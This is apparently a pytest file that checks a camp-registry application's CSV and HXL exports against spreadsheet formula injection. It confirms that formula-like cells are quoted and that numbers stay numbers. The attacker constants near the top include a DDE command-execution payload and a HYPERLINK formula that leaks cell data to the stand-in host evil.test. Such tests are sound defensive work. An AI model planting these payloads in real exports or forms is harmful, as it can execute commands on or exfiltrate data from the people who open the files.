"""Spreadsheet formula injection: every CSV campledger writes opens as data, not formulas.

A registrar can type ``=HYPERLINK(…)`` as a name; a camp manager then opens the roster in
Excel. Each export is read back cell by cell: no text cell may start a formula, while the
cells that are numbers (ages, counts, a negative longitude) stay bare numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import hxl
import pytest
from typer.testing import CliRunner

from campledger.api.cli.main import app as cli
from campledger.api.services import safe_csv
from tests.api.conftest import PREFIX, SETUP_ACTOR, Api

runner = CliRunner()

# What an attacker would type, one per field a spreadsheet later shows.
SITE_NAME = "=cmd|' /C calc'!A0"
GIVEN_NAME = '=HYPERLINK("http://evil.test/?d="&B2,"open")'
FAMILY_NAME = "+SUM(1,1)"
HOUSEHOLD = "-2+3"
BIOMETRIC = "@SUM(1+1)"
HOLD_REASON = "=1+1"
ORDER_REFERENCE = "@NOW()"
LONGITUDE = -3.25  # west of Greenwich: a negative number that must stay a number


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(text: str) -> None:
    """No cell begins a formula, unless it is a plain number such as ``-3.25``."""
    for row in cells(text):
        for value in row:
            if value.startswith(safe_csv.FORMULA_TRIGGERS):
                float(value)  # raises for "-2+3": only numbers may start with a minus


@pytest.fixture(scope="module")
def poisoned(api: Api) -> dict[str, Any]:
    """A site and the people at it whose every typed-in field looks like a formula."""
    code, other = api.fresh_code("INJ"), api.open_site()
    api.registry.open_site(
        code=code, name=SITE_NAME, kind="camp", capacity=50, latitude=12.5,
        longitude=LONGITUDE, actor=SETUP_ACTOR,
    )  # fmt: skip
    person = api.person(
        code, given_name=GIVEN_NAME, family_name=FAMILY_NAME, household_id=HOUSEHOLD,
        biometric_reference=BIOMETRIC,
    )  # fmt: skip
    api.registry.hold_person(person_id=person, reason=HOLD_REASON, actor=SETUP_ACTOR)
    moving = api.person(code)
    api.registry.plan_transfer(
        origin=code, destination=other, manifest=[moving], order_reference=ORDER_REFERENCE,
        actor=SETUP_ACTOR,
    )  # fmt: skip
    api.wait()
    return {"code": code, "person": str(person)}


def test_a_formula_cell_gets_a_quote_and_a_number_stays_a_number() -> None:
    buffer = io.StringIO()
    safe_csv.writer(buffer, lineterminator="\n").writerow(
        ["=1+1", "+1", "-x", "@A1", "\tx", "\r=1", "a;=1", "-12", -12, -0.5, None, "plain"]
    )
    assert buffer.getvalue() == (
        '"\'=1+1","\'+1","\'-x","\'@A1","\'\tx","\'\r=1","a;=1","\'-12",-12,-0.5,"","plain"\n'
    )


def test_roster_csv_shows_typed_formulas_as_text(api: Api, poisoned: dict[str, Any]) -> None:
    response = api.client.get(
        f"{PREFIX}/sites/{poisoned['code']}/roster",
        params={"format": "csv"},
        headers=api.auth("admin"),
    )
    assert response.status_code == 200, response.text
    assert_no_formula(response.text)
    [row] = [
        r
        for r in csv.DictReader(io.StringIO(response.text))
        if r["person_id"] == poisoned["person"]
    ]
    assert (row["given_name"], row["family_name"]) == (f"'{GIVEN_NAME}", f"'{FAMILY_NAME}")
    assert (row["household_id"], row["biometric_reference"]) == (f"'{HOUSEHOLD}", f"'{BIOMETRIC}")
    assert row["age"] == "30"


def test_audit_log_csv_shows_typed_reasons_and_references_as_text(
    api: Api, poisoned: dict[str, Any]
) -> None:
    response = api.client.get(
        f"{PREFIX}/audit/log.csv",
        params={"site_code": poisoned["code"]},
        headers=api.auth("auditor"),
    )
    assert response.status_code == 200, response.text
    assert_no_formula(response.text)
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert f"'{HOLD_REASON}" in {r["reason"] for r in rows}
    assert f"'{ORDER_REFERENCE}" in {r["order_reference"] for r in rows}
    # The log position is a number and is written as one, without quotes.
    assert f"\n{rows[-1]['position']}," in response.text


def test_hxl_exports_show_site_names_as_text_and_keep_coordinates_numbers(
    api: Api, poisoned: dict[str, Any]
) -> None:
    headers = api.auth("site_manager")
    occupancy = api.client.get(f"{PREFIX}/sites/occupancy.hxl.csv", headers=headers).text
    flows = api.client.get(
        f"{PREFIX}/sites/flows.hxl.csv",
        params={"start": "2000-01-01", "end": "2100-01-01"},
        headers=headers,
    ).text
    for text in (occupancy, flows):
        assert_no_formula(text)
        dataset = hxl.data(cells(text)).cache()
        [row] = [r for r in dataset if r.get("#loc+code") == poisoned["code"]]
        assert row.get("#loc+name") == f"'{SITE_NAME}"
    [site] = [
        r for r in hxl.data(cells(occupancy)).cache() if r.get("#loc+code") == poisoned["code"]
    ]
    assert float(site.get("#geo+lon")) == LONGITUDE
    assert f",{LONGITUDE}," in occupancy  # bare, so a spreadsheet reads a number
    report = hxl.validate(hxl.data(cells(occupancy)).cache())
    assert [i for i in report["issues"] if i["rule"]["severity"] == "error"] == []


@pytest.fixture
def cli_database(
    api: Api, api_database_url: str, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    monkeypatch.setenv("CAMPLEDGER_DATABASE_URL", api_database_url)
    yield


@pytest.mark.usefixtures("cli_database")
def test_command_line_csv_shows_typed_formulas_as_text(poisoned: dict[str, Any]) -> None:
    audit = runner.invoke(cli, ["audit", "--site", poisoned["code"], "--csv"])
    assert audit.exit_code == 0, audit.output
    assert_no_formula(audit.stdout)
    assert f"'{HOLD_REASON}" in {r["reason"] for r in csv.DictReader(io.StringIO(audit.stdout))}
    export = runner.invoke(cli, ["export", "occupancy", "--hxl"])
    assert export.exit_code == 0, export.output
    assert_no_formula(export.stdout)
    assert f"'{SITE_NAME}" in export.stdout
